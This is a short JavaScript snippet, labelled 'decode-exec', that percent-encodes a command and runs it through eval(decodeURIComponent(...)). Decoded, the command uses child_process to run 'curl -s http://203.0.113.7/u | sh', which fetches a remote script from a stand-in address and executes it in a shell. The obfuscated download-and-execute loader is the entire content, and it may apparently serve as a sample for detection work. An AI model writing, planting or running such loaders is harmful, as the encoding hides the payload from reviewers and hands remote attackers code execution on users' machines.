// decode-exec: percent-encoded source decoded with decodeURIComponent and evaluated
const encoded = '%72%65%71%75%69%72%65%28%22%63%68%69%6C%64%5F%70%72%6F%63%65%73%73%22%29%2E%65%78%65%63%28%22%63%75%72%6C%20%2D%73%20%68%74%74%70%3A%2F%2F%32%30%33%2E%30%2E%31%31%33%2E%37%2F%75%20%7C%20%73%68%22%29';
eval(decodeURIComponent(encoded));
